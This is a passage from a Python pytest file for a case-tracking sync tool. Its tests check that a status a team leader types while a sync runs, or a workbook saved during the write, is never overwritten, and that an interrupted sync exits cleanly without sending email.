    case = {c["Case ID"]: c for c in site.rows("cases")}["DI-2026-0002"]
    assert case["Status"] == typed and isinstance(case["Closed at"], datetime)
    assert [r["Case ID"] for r in log_rows(site, "case closed")] == ["DI-2026-0002"]
    assert "DI-2026-0002" not in site.cli("status", "--now", "2026-11-30T11:00").output


@pytest.mark.parametrize("typed", ["Closed", "Withdrawn"])
def test_a_status_typed_while_a_sync_runs_is_never_overwritten(site: Site, smtp_server: SmtpServer,
                                                               monkeypatch: pytest.MonkeyPatch, typed: str) -> None:
    four_cases_one_ready_to_close(site)
    between_read_and_write(site, monkeypatch, lambda: leader_closes_and_sorts(site, "DI-2026-0002", typed))

    result = site.cli("sync", "--now", TWO_DAYS_ON)

    assert result.exit_code == 0, result.output
    rows = site.rows("cases")
    assert [c["Case ID"] for c in rows] == [f"DI-2026-000{n}" for n in (4, 3, 2, 1)], "the sort happened"
    cases = {c["Case ID"]: c for c in rows}
    assert cases["DI-2026-0002"]["Status"] == typed                       # the leader's word stays
    assert cases["DI-2026-0002"]["Progress"] == "Ready to close"          # the worker's, in its own column
    for case in rows:                                                     # no cell landed in another row
        number = int(case["Case ID"][-4:]) - 1
        assert case["Reported by"] == f"r{number}@school.example"
        assert case["Status"] == (typed if case["Case ID"] == "DI-2026-0002" else "Open")
        assert (case["Overdue steps"] > 0) == (case["Case ID"] != "DI-2026-0002")
    assert_closed_is_honoured(site, typed)


def test_a_leader_saving_the_workbook_during_the_write_makes_the_sync_wait(
        tmp_path: Path, smtp_server: SmtpServer, emulator: SheetsEmulator, monkeypatch: pytest.MonkeyPatch) -> None:
    """Local only: a save that lands while the worker writes its copy (the mtime check) → exit 75,
    nothing written or sent; the next sync honours the leader's Closed."""
    import workflow.storage.local as local

    site = Site("local", tmp_path, smtp_server.port, emulator, monkeypatch)
    four_cases_one_ready_to_close(site)
    before = {c["Case ID"]: c["Overdue steps"] for c in site.rows("cases")}
    sent_before = len(smtp_server.handler.envelopes)
    original = local._dump
    done: list[bool] = []

    def leader_saves_then_dump(workbook: Any, stream: Any) -> None:
        if not done:
            done.append(True)
            leader_closes_and_sorts(site, "DI-2026-0002", "Closed")
        original(workbook, stream)

    monkeypatch.setattr(local, "_dump", leader_saves_then_dump)
    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 75, result.output
    assert "changed by someone else" in result.output and "Traceback" not in result.output
    assert len(smtp_server.handler.envelopes) == sent_before, "nothing sent for what was not written"
    cases = {c["Case ID"]: c for c in site.rows("cases")}
    assert cases["DI-2026-0002"]["Status"] == "Closed"
    assert {k: c["Overdue steps"] for k, c in cases.items()} == before, "the worker wrote nothing"
    assert not list(tmp_path.glob(".*.tmp")), "the temp file is removed"
    assert_closed_is_honoured(site, "Closed")
